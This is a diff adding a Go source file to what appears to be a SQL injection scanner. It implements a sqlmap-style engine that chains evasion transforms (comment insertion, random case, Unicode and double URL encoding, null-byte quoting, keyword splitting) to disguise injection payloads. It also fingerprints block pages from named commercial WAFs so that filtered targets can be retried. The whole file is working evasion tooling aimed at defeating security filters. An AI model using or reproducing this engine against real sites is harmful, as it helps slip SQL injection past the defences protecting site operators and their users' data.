@@ -0,0 +1,204 @@
+package main
+
+import (
+	"fmt"
+	"math/rand"
+	"net/http"
+	"regexp"
+	"strings"
+	"unicode"
+)
+
+// Tamper is a single WAF-evasion transform applied to a payload's text,
+// modeled on sqlmap's tamper scripts.
+type Tamper interface {
+	// Name identifies this tamper in a mutation chain report.
+	Name() string
+	// Apply transforms payload text, returning the mutated text.
+	Apply(payload string) string
+}
+
+// TamperFunc adapts a plain function to the Tamper interface.
+type TamperFunc struct {
+	name string
+	fn   func(string) string
+}
+
+func (t TamperFunc) Name() string                { return t.name }
+func (t TamperFunc) Apply(payload string) string { return t.fn(payload) }
+
+var (
+	spaceToComment = TamperFunc{"space2comment", func(s string) string {
+		return strings.ReplaceAll(s, " ", "/**/")
+	}}
+	spaceToPlus = TamperFunc{"space2plus", func(s string) string {
+		return strings.ReplaceAll(s, " ", "+")
+	}}
+	randomCase        = TamperFunc{"randomcase", randomCaseTamper}
+	charUnicodeEncode = TamperFunc{"charunicodeencode", unicodeEncodeTamper}
+	between           = TamperFunc{"between", func(s string) string {
+		return strings.ReplaceAll(s, "=", " BETWEEN a AND a")
+	}}
+	equalToLike = TamperFunc{"equaltolike", func(s string) string {
+		return strings.ReplaceAll(s, "=", " LIKE ")
+	}}
+	apostropheNullEncode = TamperFunc{"apostrophenullencode", func(s string) string {
+		return strings.ReplaceAll(s, "'", "%00%27")
+	}}
+	doubleQuoteTamper = TamperFunc{"doublequote", func(s string) string {
+		return strings.ReplaceAll(s, "'", "\"")
+	}}
+	keywordCommentSplit    = TamperFunc{"keywordcommentsplit", splitKeywordsTamper}
+	hexPercentDoubleEncode = TamperFunc{"hexdoubleencode", hexDoubleEncodeTamper}
+)
+
+// allTampers is the built-in set NewMutationEngine composes into chains.
+var allTampers = []Tamper{
+	spaceToComment,
+	spaceToPlus,
+	randomCase,
+	charUnicodeEncode,
+	between,
+	equalToLike,
+	apostropheNullEncode,
+	doubleQuoteTamper,
+	keywordCommentSplit,
+	hexPercentDoubleEncode,
+}
+
+// randomCaseTamper randomizes each letter's case (e.g. "UNION" ->
+// "uNiOn"), defeating case-sensitive keyword signatures.
+func randomCaseTamper(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		if unicode.IsLetter(r) {
+			if rand.Intn(2) == 0 {
+				r = unicode.ToUpper(r)
+			} else {
+				r = unicode.ToLower(r)
+			}
+		}
+		b.WriteRune(r)
+	}
+	return b.String()
+}
+
+// unicodeEncodeTamper renders every character as a %uXXXX escape, which
+// some legacy WAF signature sets don't decode before matching.
+func unicodeEncodeTamper(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		fmt.Fprintf(&b, "%%u%04x", r)
+	}
+	return b.String()
+}
+
+// sqlKeywordPattern matches the SQL keywords a signature-based WAF is
+// most likely to block on.
+var sqlKeywordPattern = regexp.MustCompile(`(?i)\b(UNION|SELECT|INSERT|UPDATE|DELETE|WHERE|FROM|OR|AND)\b`)
+
+// splitKeywordsTamper inserts an inline comment in the middle of each SQL
+// keyword (e.g. "UNION SELECT" -> "UN/**/ION SEL/**/ECT"), which most
+// SQL dialects still parse correctly but a whole-word signature won't match.
+func splitKeywordsTamper(s string) string {
+	return sqlKeywordPattern.ReplaceAllStringFunc(s, func(kw string) string {
+		mid := len(kw) / 2
+		if mid == 0 {
+			return kw
+		}
+		return kw[:mid] + "/**/" + kw[mid:]
+	})
+}
+
+// hexDoubleEncodeTamper percent-encodes every byte and then percent-
+// encodes the leading "%" again (e.g. "'" -> "%2527"), bypassing filters
+// that only decode a URL-encoded payload once before inspecting it.
+func hexDoubleEncodeTamper(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		fmt.Fprintf(&b, "%%25%02X", s[i])
+	}
+	return b.String()
+}
+
+// MutatedPayload is one candidate MutationEngine.Mutate produces: the
+// mutated payload plus the ordered tamper names applied to produce it, so
+// a caller can report which filter-bypass chain worked.
+type MutatedPayload struct {
+	Payload SQLIPayload
+	Chain   []string
+}
+
+// MutationEngine composes Tampers into chains and mutates a base payload
+// with each chain, so a candidate injection point that looked filtered
+// can be retried with a different disguise for the same underlying
+// payload instead of giving up on it.
+type MutationEngine struct {
+	Tampers    []Tamper
+	ChainDepth int // how many tampers compose per chain; 1 or 2 is typical
+}
+
+// NewMutationEngine returns a MutationEngine using the built-in tamper
+// set with chains up to depth 2 (every single tamper, then every
+// ordered pair).
+func NewMutationEngine() *MutationEngine {
+	return &MutationEngine{Tampers: allTampers, ChainDepth: 2}
+}
+
+// Mutate returns every mutation chain of base up to me.ChainDepth tampers
+// long.
+func (me *MutationEngine) Mutate(base SQLIPayload) []MutatedPayload {
+	var out []MutatedPayload
+	me.mutate(base, nil, base.Payload, 1, &out)
+	return out
+}
+
+func (me *MutationEngine) mutate(base SQLIPayload, chain []string, text string, depth int, out *[]MutatedPayload) {
+	for _, t := range me.Tampers {
+		mutatedText := t.Apply(text)
+		mutatedChain := append(append([]string{}, chain...), t.Name())
+
+		mutated := base
+		mutated.Payload = mutatedText
+		mutated.Description = fmt.Sprintf("%s (tamper: %s)", base.Description, strings.Join(mutatedChain, "->"))
+		*out = append(*out, MutatedPayload{Payload: mutated, Chain: mutatedChain})
+
+		if depth < me.ChainDepth {
+			me.mutate(base, mutatedChain, mutatedText, depth+1, out)
+		}
+	}
+}
+
+// wafSignatures maps a WAF/CDN's name to substrings its block page
+// commonly contains, so looksFiltered can name which WAF matched instead
+// of just reporting "filtered".
+var wafSignatures = map[string][]string{
+	"Cloudflare":  {"cloudflare", "attention required", "cf-ray"},
+	"AWS WAF":     {"aws waf", "the request could not be satisfied"},
+	"ModSecurity": {"mod_security", "modsecurity"},
+	"Imperva":     {"imperva", "incapsula"},
+	"Akamai":      {"akamai"},
+	"F5 BIG-IP":   {"the requested url was rejected", "support id"},
+	"Sucuri":      {"sucuri website firewall"},
+}
+
+// looksFiltered reports whether status/body looks like a WAF block
+// rather than the application's own response (a 403/406 status, or a
+// known WAF's signature in the body), and if a specific WAF was
+// recognized, its name.
+func looksFiltered(status int, body string) (filtered bool, waf string) {
+	if status == http.StatusForbidden || status == http.StatusNotAcceptable {
+		filtered = true
+	}
+
+	lower := strings.ToLower(body)
+	for name, signatures := range wafSignatures {
+		for _, sig := range signatures {
+			if strings.Contains(lower, sig) {
+				return true, name
+			}
+		}
+	}
+
+	return filtered, ""
+}